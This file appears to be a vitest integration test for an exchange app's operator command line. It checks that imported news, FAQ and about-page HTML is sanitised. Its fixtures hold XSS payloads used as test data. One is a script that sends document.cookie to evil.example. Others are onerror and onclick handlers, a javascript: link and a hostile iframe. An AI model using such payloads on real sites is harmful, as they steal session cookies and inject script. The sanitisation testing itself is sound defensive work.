import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { endpoints } from '../../contract/api';
import { ROOT as root, startServerProcess, type ServerProcess } from '../testing/process';

/**
 * The content half of the operator's command line (`npm run operator -- news-add ...`),
 * run as an operator runs it: `node --import tsx scripts/operator.ts <command>` against a
 * real server process on a free port, found through DATA_DIR/server.json and
 * DATA_DIR/operator.token. What the commands did is read back through the public API,
 * as the app reads it.
 */
let dataDir: string;
let server: ServerProcess | undefined;
let port: number;

beforeAll(async () => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'kestrel-cli-'));
  server = await startServerProcess(dataDir, { MARKET_RATE: '5' });
  port = server.port;
}, 30_000);

afterAll(async () => {
  await server?.stop();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** One command of the operator's command line, with the server's DATA_DIR. */
function operator(...args: string[]): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['--import', 'tsx', 'scripts/operator.ts', ...args], { cwd: root, env: { ...process.env, DATA_DIR: dataDir } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => void (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => void (stderr += chunk.toString()));
    child.once('error', reject);
    child.once('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** A command that must succeed. */
async function succeeds(...args: string[]): Promise<string> {
  const run = await operator(...args);
  expect(run, `operator ${args.join(' ')}`).toMatchObject({ code: 0, stderr: '' });
  return run.stdout;
}

/** The public API, as the app calls it. */
async function api(endpoint: { method: 'GET' | 'POST'; path: string }, fields: Record<string, string> = {}): Promise<{ type: string; message: unknown }> {
  const body = new URLSearchParams(fields).toString();
  const response = await fetch(`http://127.0.0.1:${port}/api${endpoint.path}${endpoint.method === 'GET' ? `?${body}` : ''}`, {
    method: endpoint.method,
    ...(endpoint.method === 'POST' ? { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body } : {}),
  });
  expect(response.status).toBe(200);
  return (await response.json()) as { type: string; message: unknown };
}

async function okMessage<T>(endpoint: { method: 'GET' | 'POST'; path: string }, fields: Record<string, string> = {}): Promise<T> {
  const answer = await api(endpoint, fields);
  expect(answer.type, JSON.stringify(answer)).toBe('ok');
  return answer.message as T;
}

function file(name: string, text: string): string {
  const at = path.join(dataDir, name);
  fs.writeFileSync(at, text);
  return at;
}

type Article = { id: number; c_id: number; title: string; summary: string; content: string };
const newsIds = async () => (await okMessage<{ data: { id: number }[] }>(endpoints.newsList, { c_id: '4', limit: '50' })).data.map((item) => item.id);

describe('the operator command line manages content on the running server', () => {
  test('news: a hostile HTML file is stored sanitised; listed, retitled, then deleted', async () => {
    const html = file(
      'article.html',
      [
        '<h1>Maintenance <em>tonight</em></h1>',
        '<p onclick="steal()">The exchange pauses for <strong>ten minutes</strong>.</p>',
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
        '<img src="/uploads/notice_1.png" onerror="alert(1)" alt="notice">',
        '<img src="https://evil.example/x.png" onerror="alert(2)">',
        '<a href="javascript:alert(3)">details</a> <a href="https://kestrel.example/help" onmouseover="alert(4)">help</a>',
      ].join('\n'),
    );
    const added = await succeeds('news-add', 'news', html, '--summary', 'Ten minutes, Sunday night');
    const id = Number(/article (\d+)/.exec(added)?.[1]);
    expect(id).toBeGreaterThan(0);
    expect(added).toContain(`en: saved (id ${id})`);

    const article = await okMessage<Article>(endpoints.newsDetail, { id: String(id) });
    expect(article).toMatchObject({ id, c_id: 4, title: 'Maintenance tonight', summary: 'Ten minutes, Sunday night' });
    expect(article.content).toBe(
      [
        '<p>The exchange pauses for <strong>ten minutes</strong>.</p>',
        '',
        '<img src="/uploads/notice_1.png" alt="notice" />',
        '',
        '<span>details</span> <a href="https://kestrel.example/help" rel="noopener noreferrer" target="_blank">help</a>',
      ].join('\n'),
    );
    expect(article.content).not.toMatch(/script|onerror|onclick|onmouseover|javascript|evil|alert/i);

    // news-list shows it, newest first, with its title.
    const listed = await succeeds('news-list');
    expect(listed).toMatch(new RegExp(`\\b${id}\\b.*Maintenance tonight`));

    // news-edit changes the title (the file's own h1 is overridden) and nothing else.
    await succeeds('news-edit', String(id), html, '--title', 'Maintenance moved to Monday');
    expect(await okMessage<Article>(endpoints.newsDetail, { id: String(id) })).toMatchObject({ id, title: 'Maintenance moved to Monday', content: article.content });
    expect(await succeeds('news-list')).toContain('Maintenance moved to Monday');

    // news-delete removes it from the detail, the list and the command line's list.
    expect(await succeeds('news-delete', String(id))).toContain('Done.');
    expect(await api(endpoints.newsDetail, { id: String(id) })).toEqual({ type: 'error', message: 'This article does not exist or has been removed.' });
    expect(await newsIds()).not.toContain(id);
    expect(await succeeds('news-list')).not.toContain('Maintenance moved to Monday');
  });

  test('faq: a question added from a file is served and listed', async () => {
    const question = file('question.html', '<h1>Can I trade at night?</h1><p>Yes: the markets never close.<script>alert(1)</script></p>');
    const out = await succeeds('faq-add', question, '--sort', '0');
    const id = Number(/question (\d+)/.exec(out)?.[1]);
    expect(id).toBeGreaterThan(0);
    const entries = await okMessage<{ id: number; question: string; answer: string }[]>(endpoints.faq);
    expect(entries.find((entry) => entry.id === id)).toEqual({ id, question: 'Can I trade at night?', answer: '<p>Yes: the markets never close.</p>' });
    expect(await succeeds('faq-list')).toMatch(new RegExp(`\\b${id}\\b.*Can I trade at night\\?`));
  });

  test('page-save: the about page, in the languages of a JSON file, is what GET /aboutus answers', async () => {
    const page = file(
      'about.json',
      JSON.stringify({
        en: { title: 'About us', content: '<p>A paper-trading exchange.</p><iframe src="https://evil.example"></iframe>' },
        fra: { title: 'À propos', content: '<p>Une plateforme d’entraînement.</p>' },
      }),
    );
    const out = await succeeds('page-save', 'aboutus', page);
    expect(out).toContain('en: saved');
    expect(out).toContain('fra: saved');
    expect(await okMessage(endpoints.aboutUs)).toMatchObject({ key: 'aboutus', title: 'About us', content: '<p>A paper-trading exchange.</p>' });
    expect(await okMessage(endpoints.aboutUs, { lang: 'fra' })).toMatchObject({ title: 'À propos', content: '<p>Une plateforme d’entraînement.</p>' });
  });

  test('service-link: set, it is the menu\'s customer service entry; "none" clears it', async () => {
    type Entry = { key: string; title: string; url: string | null };
    expect((await okMessage<Entry[]>(endpoints.menu)).map((entry) => entry.key)).not.toContain('service');
    await succeeds('service-link', 'https://t.me/kestrel_help');
    expect((await okMessage<Entry[]>(endpoints.menu)).find((entry) => entry.key === 'service')).toEqual({ key: 'service', title: 'Customer service', url: 'https://t.me/kestrel_help' });
    await succeeds('service-link', 'none');
    expect((await okMessage<Entry[]>(endpoints.menu)).map((entry) => entry.key)).not.toContain('service');
  });

  test('--sort that is not a whole number from 0 to 10000 is a command-line error: exit 1, nothing sent', async () => {
    const html = file('sorted.html', '<h1>Sorted article</h1><p>Text.</p>');
    const before = await newsIds();
    for (const [command, value] of [
      ['news-add', 'abc'],
      ['news-add', '1.5'],
      ['faq-add', '20000'],
    ] as const) {
      const args = command === 'news-add' ? ['news-add', 'banner', html, '--sort', value] : ['faq-add', html, '--sort', value];
      const run = await operator(...args);
      expect(run).toEqual({ code: 1, stdout: '', stderr: `--sort must be a whole number from 0 to 10000, got "${value}".\n` });
    }
    expect(await newsIds()).toEqual(before);
    expect((await okMessage<{ data: { title: string }[] }>(endpoints.newsList, { c_id: '5', limit: '50' })).data.map((item) => item.title)).not.toContain('Sorted article');
    expect((await okMessage<{ question: string }[]>(endpoints.faq)).map((entry) => entry.question)).not.toContain('Sorted article');
  });
});
